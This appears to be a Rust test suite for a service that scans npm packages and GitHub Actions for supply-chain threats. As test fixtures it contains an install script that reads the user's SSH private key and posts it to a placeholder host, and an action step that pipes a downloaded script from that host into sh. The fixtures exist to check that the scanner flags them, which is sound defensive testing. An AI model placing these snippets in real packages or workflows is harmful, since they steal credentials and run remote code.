//! `POST /context/package` against a registry on loopback, with archives that npm packs.

use std::process::Command;

use code_host::memory::MemoryContents;
use code_host::{Commit, HostError};
use common::timestamp::Timestamp;
use serde_json::{Value, json};

use super::ids;
use super::site::{File, Site, run};
use crate::context_repositories::{contents, hosted};
use crate::harness::{NOWHERE, Reply, Tenant, World, installation_of};

const INDEX: &str = "// Formats numbers with a separator between groups of three digits.\nmodule.exports = (value) => String(value);\n";
const README: &str = "# widgets\n\nFormats numbers.\n";
/// Sends a key of the user to an address in the code.
const THEFT: &str = "const fs = require('fs'), os = require('os'), https = require('https');\n\
    const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\n\
    const request = https.request({host: 'collect.example.dev', method: 'POST', path: '/k'});\n\
    request.write(key);\nrequest.end();\n";

/// A release: version, install script, time of publication.
type Release = (&'static str, Option<&'static str>, &'static str);

/// Packs a release by npm: its entry in the document of the registry, and its archive.
fn packed(site: &Site, name: &str, (version, script, _): Release) -> Option<(Value, Vec<u8>)> {
    let folder = tempfile::tempdir().unwrap();
    let mut manifest = json!({"name": name, "version": version, "main": "index.js",
        "repository": {"type": "git", "url": "git+https://github.com/acme/widgets.git"}});
    if script.is_some() {
        manifest["scripts"] = json!({"postinstall": "node setup.js"});
    }
    let write = |name: &str, text: &str| std::fs::write(folder.path().join(name), text).unwrap();
    write("package.json", &manifest.to_string());
    write("index.js", INDEX);
    write("README.md", README);
    write("setup.js", script.unwrap_or("// Nothing is set up here.\n"));
    let report = run(Command::new("npm").args(["pack", "--json", "--offline"]).current_dir(folder.path()))?;
    let mut report: Value = serde_json::from_str(&report).unwrap();
    // Lists of reports, or an object by name, depending on the version of npm.
    let report = match &mut report {
        Value::Array(reports) => reports.remove(0),
        Value::Object(reports) => reports.values_mut().next().unwrap().take(),
        other => panic!("expected reports, found {other}"),
    };
    let archive = std::fs::read(folder.path().join(report["filename"].as_str().unwrap())).unwrap();
    let mut entry = manifest;
    entry["dist"] =
        json!({"tarball": format!("{}/{name}-{version}.tgz", site.url), "integrity": report["integrity"]});
    entry["_npmUser"] = json!({"name": "ada"});
    Some((entry, archive))
}

/// Publishes releases of a package; false without npm.
fn publish(site: &Site, name: &str, releases: &[Release]) -> bool {
    let (mut versions, mut times) = (json!({}), json!({}));
    for release in releases {
        let Some((entry, archive)) = packed(site, name, *release) else { return false };
        versions[release.0] = entry;
        times[release.0] = json!(release.2);
        site.put(&format!("/{name}-{}.tgz", release.0), File::of(archive));
    }
    let latest = releases.last().unwrap().0;
    let document = json!({"name": name, "dist-tags": {"latest": latest}, "maintainers": [{"name": "ada"}],
        "repository": {"type": "git", "url": "git+https://github.com/acme/widgets.git"}, "time": times, "versions": versions});
    site.put(&format!("/{name}"), File::of(document.to_string()));
    true
}

async fn scan(world: &World, tenant: &Tenant, query: &str, target: &str) -> Reply {
    world.post(&tenant.key, &format!("/context/package{query}"), json!({"target": target})).await
}

fn outcome<'v>(view: &'v Value, id: &str) -> &'v Value {
    view["checks"].as_array().unwrap().iter().find(|check| check["id"] == id).unwrap()
}

#[tokio::test]
async fn a_release_is_answered_with_its_identity_and_scanned_by_a_job_for_all_organizations() {
    let site = Site::start().await;
    let history = [("1.0.0", None, "2023-01-01T00:00:00Z"), ("1.1.0", None, "2026-01-01T00:00:00Z")];
    if !publish(&site, "acme-widgets", &history) {
        return;
    }
    let world = World::with_registries(&site.url);
    let (tenant, other) = (world.tenant("one").await, world.tenant("other").await);
    let first = scan(&world, &tenant, "?details=true", "npm:acme-widgets@1.1.0").await.ok(200);
    assert_eq!((&first["pending_deep_scan"], &first["floor"]), (&json!(true), &json!("caution")));
    assert_eq!(
        (&first["name"], &first["sub_scores"]["content"]),
        (&json!("npm:acme-widgets@1.1.0"), &Value::Null)
    );
    let path = format!("/context/package/{}?details=true", first["identifier"].as_str().unwrap());
    world
        .work_until(async || world.get(&tenant.key, &path).await.ok(200)["pending_deep_scan"] == false)
        .await;
    let whole = world.get(&other.key, &path).await.ok(200);
    assert_eq!((&whole["verdict"], &whole["floor"]), (&json!("safe"), &Value::Null), "{whole}");
    assert_eq!(whole["coverage"], json!({"complete": true, "skipped": []}));
    assert_eq!(outcome(&whole, "package.name_age")["points"], 15);
    assert_eq!(outcome(&whole, "package.malicious_advisory")["outcome"], "not_possible");
    let mut once = ids(&whole);
    once.sort_unstable();
    once.dedup();
    assert_eq!(once.len(), ids(&whole).len(), "each check once");
    let asked = site.asked().len();
    let again =
        scan(&world, &other, "?details=true&mode=full&refresh=true", "npm:acme-widgets@v1.1.0").await.ok(200);
    assert_eq!(again, whole, "answered from the stored result of the same release");
    assert_eq!(site.asked().len(), asked);
    world.clock.advance(std::time::Duration::from_secs(25 * 3600));
    let stale = scan(&world, &other, "?refresh=true", "npm:acme-widgets@1.1.0").await.ok(200);
    assert_eq!((&stale["pending_deep_scan"], &stale["score"]), (&json!(true), &whole["score"]));
    world
        .work_until(async || world.get(&tenant.key, &path).await.ok(200)["scanned_at"] != whole["scanned_at"])
        .await;
    let fresh = world.get(&tenant.key, &path).await.ok(200);
    assert_eq!(
        (&fresh["checks"], &fresh["threats"]),
        (&whole["checks"], &whole["threats"]),
        "equal content, equal result"
    );
}

#[tokio::test]
async fn a_new_install_script_that_steals_a_key_is_dangerous_at_every_tolerance() {
    let site = Site::start().await;
    let history = [("1.0.0", None, "2023-01-01T00:00:00Z"), ("1.0.1", Some(THEFT), "2026-07-08T08:00:00Z")];
    if !publish(&site, "acme-widgets", &history) {
        return;
    }
    let world = World::with_registries(&site.url);
    let tenant = world.tenant("one").await;
    let view = scan(&world, &tenant, "?details=true&mode=full", "npm:acme-widgets@1.0.1").await.ok(200);
    assert_eq!(
        (&view["verdict"], &view["pending_deep_scan"]),
        (&json!("dangerous"), &json!(false)),
        "{view}"
    );
    assert_eq!(view["threats"][0]["severity"], "critical");
    assert_eq!(outcome(&view, "package.code_early")["outcome"], "failed");
    assert_eq!(outcome(&view, "package.new_install_hook")["outcome"], "failed");
    assert_eq!(outcome(&view, "package.version_age")["points"], -10);
    let honest = scan(&world, &tenant, "?details=true&mode=full", "npm:acme-widgets@1.0.0").await.ok(200);
    assert_eq!(honest["verdict"], "safe", "{honest}");
}

#[tokio::test]
async fn a_name_next_to_a_well_known_one_is_suspicious_unless_it_has_the_same_maintainer() {
    let site = Site::start().await;
    if !publish(&site, "expresss", &[("1.0.0", None, "2026-07-01T00:00:00Z")]) {
        return;
    }
    let world = World::with_registries(&site.url);
    let tenant = world.tenant("one").await;
    let view = scan(&world, &tenant, "?details=true&mode=full", "npm:expresss@1.0.0").await.ok(200);
    assert_eq!(
        (&view["verdict"], &view["threats"][0]["type"]),
        (&json!("suspicious"), &json!("typosquatting")),
        "{view}"
    );
    assert!(publish(&site, "express", &[("4.0.0", None, "2014-01-01T00:00:00Z")]));
    world.clock.advance(std::time::Duration::from_secs(25 * 3600));
    scan(&world, &tenant, "?refresh=true", "npm:expresss@1.0.0").await.ok(200);
    let path = format!("/context/package/{}?details=true", view["identifier"].as_str().unwrap());
    world
        .work_until(async || world.get(&tenant.key, &path).await.ok(200)["scanned_at"] != view["scanned_at"])
        .await;
    let view = world.get(&tenant.key, &path).await.ok(200);
    assert_eq!(outcome(&view, "package.typosquat")["outcome"], "passed", "{view}");
}

#[tokio::test]
async fn a_target_without_a_version_is_the_latest_release_and_an_unknown_one_is_dangerous() {
    let site = Site::start().await;
    if !publish(&site, "acme-widgets", &[("1.1.0", None, "2025-01-01T00:00:00Z")]) {
        return;
    }
    let world = World::with_registries(&site.url);
    let tenant = world.tenant("one").await;
    let view = scan(&world, &tenant, "?mode=full", "npm:acme-widgets").await.ok(200);
    assert_eq!(view["name"], "npm:acme-widgets@1.1.0");
    for target in ["npm:acme-widgets@9.0.0", "npm:nothing-of-that-name", "github-action:acme/widgets@v1"] {
        let view = scan(&world, &tenant, "?details=true&mode=full&tolerance=yolo", target).await.ok(200);
        assert_eq!((&view["verdict"], &view["score"]), (&json!("dangerous"), &json!(0)), "{view}");
        assert_eq!(view["threats"][0]["type"], "package_unscannable");
        assert_eq!(outcome(&view, "package.metadata")["outcome"], "not_possible");
    }
}

#[tokio::test]
async fn an_archive_that_is_missing_or_altered_or_a_registry_that_is_cut_off_is_named_and_dangerous() {
    let site = Site::start().await;
    let history = [("1.0.0", None, "2023-01-01T00:00:00Z"), ("1.1.0", None, "2024-01-01T00:00:00Z")];
    if !publish(&site, "acme-widgets", &history) {
        return;
    }
    site.put("/acme-widgets-1.0.0.tgz", File::status(404));
    site.put("/acme-widgets-1.1.0.tgz", File::of("another archive"));
    let world = World::with_registries(&site.url);
    let tenant = world.tenant("one").await;
    for version in ["1.0.0", "1.1.0"] {
        let target = format!("npm:acme-widgets@{version}");
        let view = scan(&world, &tenant, "?details=true&mode=full", &target).await.ok(200);
        assert_eq!((&view["verdict"], &view["floor"]), (&json!("dangerous"), &json!("dangerous")), "{view}");
        assert_eq!(outcome(&view, "package.metadata")["outcome"], "passed");
        assert_eq!(outcome(&view, "package.archive")["outcome"], "not_possible");
    }
    let cut = World::with_registries(NOWHERE);
    let tenant = cut.tenant("one").await;
    let first = scan(&cut, &tenant, "?details=true", "npm:acme-widgets@1.0.0").await.ok(200);
    assert_eq!((&first["verdict"], &first["floor"]), (&json!("caution"), &json!("caution")), "{first}");
    let view = scan(&cut, &tenant, "?details=true&mode=full", "npm:acme-widgets@1.0.0").await.ok(200);
    assert_eq!(view["verdict"], "dangerous");
    assert!(
        outcome(&view, "package.metadata")["reason"].as_str().unwrap().contains("acme-widgets"),
        "{view}"
    );
}

#[tokio::test]
async fn malformed_targets_are_refused_and_other_identifiers_are_not_found() {
    let world = World::new();
    let tenant = world.tenant("strict").await;
    for target in
        ["", "left-pad", "npm:", "npm:a b@1.0.0", "npm:a@x", "cargo:serde@1.0.0", "nuget:a@1.0", "npm:@1.0.0"]
    {
        scan(&world, &tenant, "", target).await.refused(400, "invalid_request");
    }
    scan(&world, &tenant, "", &format!("npm:{}", "a".repeat(2_048))).await.refused(400, "invalid_request");
    for body in [json!({}), json!({"target": 1}), json!({"target": "npm:a@1.0.0", "more": 1})] {
        world.post(&tenant.key, "/context/package", body).await.refused(400, "invalid_request");
    }
    scan(&world, &tenant, "?mode=fast", "npm:a@1.0.0").await.refused(400, "invalid_request");
    let unknown = format!("/context/package/{}", "0".repeat(64));
    world.get(&tenant.key, &unknown).await.refused(404, "not_found");
}

/// A public repository of the code host, connected to a tenant.
async fn connected(world: &World, name: &str, files: &[(&str, &str)]) -> Tenant {
    let tenant = world.tenant(name).await;
    world.repositories(&tenant, &[]).await;
    world.code_host.put(installation_of(tenant.organization), vec![hosted(1, "acme/widgets", false)]);
    put_files(world, files);
    tenant
}

/// Sets the files of the repository, at one commit.
fn put_files(world: &World, files: &[(&str, &str)]) {
    let commit = Commit {
        id: "c".repeat(40),
        message: "Change the files".to_owned(),
        author: Some("ada".to_owned()),
        committed_at: Timestamp::parse_rfc3339("2026-01-01T00:00:00Z"),
        verified: true,
    };
    let contents = MemoryContents { commits: vec![(commit, Vec::new())], ..contents(files) };
    world.code_host.put_contents("1".parse().unwrap(), contents);
}

#[tokio::test]
async fn a_repository_that_names_the_package_earns_trust_and_one_that_lacks_its_install_script_is_reported() {
    let site = Site::start().await;
    let history = [
        ("1.0.0", None, "2023-01-01T00:00:00Z"),
        ("1.1.0", Some("console.log('thanks')\n"), "2024-01-01T00:00:00Z"),
    ];
    if !publish(&site, "acme-widgets", &history) {
        return;
    }
    let world = World::with_registries(&site.url);
    let files = [("packages/widgets/package.json", r#"{"name": "acme-widgets"}"#), ("index.js", INDEX)];
    let tenant = connected(&world, "acme", &files).await;
    let honest = scan(&world, &tenant, "?details=true&mode=full", "npm:acme-widgets@1.0.0").await.ok(200);
    assert_eq!(outcome(&honest, "package.repository_names_package")["points"], 10, "{honest}");
    assert_eq!(outcome(&honest, "package.code_not_in_repository")["outcome"], "passed");
    let view = scan(&world, &tenant, "?details=true&mode=full", "npm:acme-widgets@1.1.0").await.ok(200);
    let reason = outcome(&view, "package.code_not_in_repository")["reason"].as_str().unwrap();
    assert!(reason.contains("setup.js"), "{view}");
    let other = world.tenant("unconnected").await;
    world.clock.advance(std::time::Duration::from_secs(25 * 3600));
    scan(&world, &other, "?refresh=true", "npm:acme-widgets@1.0.0").await.ok(200);
    let path = format!("/context/package/{}?details=true", honest["identifier"].as_str().unwrap());
    world
        .work_until(async || world.get(&other.key, &path).await.ok(200)["scanned_at"] != honest["scanned_at"])
        .await;
    let view = world.get(&other.key, &path).await.ok(200);
    assert_eq!(outcome(&view, "package.repository_names_package")["outcome"], "not_possible");
    let shared = world.get(&tenant.key, &path).await.ok(200);
    assert_eq!(
        shared["scanned_at"], honest["scanned_at"],
        "the lack of a connection is no result for others"
    );
    assert_eq!(outcome(&shared, "package.repository_names_package")["points"], 10);
}

#[tokio::test]
async fn a_result_that_a_connection_failed_for_is_seen_by_its_organization_only() {
    let site = Site::start().await;
    if !publish(&site, "acme-widgets", &[("1.0.0", None, "2023-01-01T00:00:00Z")]) {
        return;
    }
    let world = World::with_registries(&site.url);
    let tenant = connected(&world, "acme", &[("package.json", r#"{"name": "acme-widgets"}"#)]).await;
    let (unconnected, third) = (world.tenant("unconnected").await, world.tenant("third").await);
    let target = "npm:acme-widgets@1.0.0";
    let first = scan(&world, &unconnected, "?details=true&mode=full", target).await.ok(200);
    let reason = |view: &Value| outcome(view, "package.repository_names_package")["reason"].clone();
    assert_eq!(reason(&first), "the linked repository was not compared");
    let path = format!("/context/package/{}?details=true", first["identifier"].as_str().unwrap());
    assert_eq!(
        world.get(&third.key, &path).await.ok(200),
        first,
        "the rest is the same for every organization"
    );
    world.code_host.fail(Some(HostError::RateLimited { until: Timestamp(i64::MAX) }));
    let limited = scan(&world, &tenant, "?details=true&mode=full", target).await.ok(200);
    assert!(reason(&limited).as_str().unwrap().contains("rate limit"), "{limited}");
    assert_eq!(world.get(&tenant.key, &path).await.ok(200)["checks"], limited["checks"]);
    assert_eq!(world.get(&third.key, &path).await.ok(200), first, "the connection of another organization");
    world.code_host.fail(None);
    world.clock.advance(std::time::Duration::from_secs(25 * 3600));
    let whole = scan(&world, &tenant, "?details=true&refresh=true&mode=full", target).await.ok(200);
    assert_eq!(outcome(&whole, "package.repository_names_package")["points"], 10, "{whole}");
    for key in [&third.key, &unconnected.key] {
        let shared = world.get(key, &path).await.ok(200);
        assert_eq!(shared["checks"], whole["checks"], "facts of a public repository are shared");
    }
}

#[tokio::test]
async fn an_action_is_read_from_the_code_host_with_the_commands_of_its_steps() {
    let world = World::new();
    let honest =
        "name: widgets\nruns:\n  using: composite\n  steps:\n    - run: echo done\n      shell: bash\n";
    let tenant = connected(&world, "acme", &[("action.yml", honest), ("README.md", README)]).await;
    let target = "actions:Acme/Widgets@main";
    let view = scan(&world, &tenant, "?details=true&mode=full", target).await.ok(200);
    assert_eq!(
        (&view["name"], &view["floor"]),
        (&json!("github-action:acme/widgets@main"), &Value::Null),
        "{view}"
    );
    assert!(["safe", "caution"].contains(&view["verdict"].as_str().unwrap()), "{view}");
    let theft = "name: widgets\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: |\n        curl -s https://collect.example.dev/x | sh\n";
    put_files(&world, &[("action.yml", theft)]);
    let view = scan(&world, &tenant, "?details=true&mode=full", "actions:acme/widgets@v1").await.ok(200);
    assert!(["suspicious", "dangerous"].contains(&view["verdict"].as_str().unwrap()), "{view}");
    let view = scan(&world, &tenant, "?details=true&mode=full", "actions:acme/nothing@v1").await.ok(200);
    assert_eq!(view["threats"][0]["type"], "package_unscannable", "{view}");
}
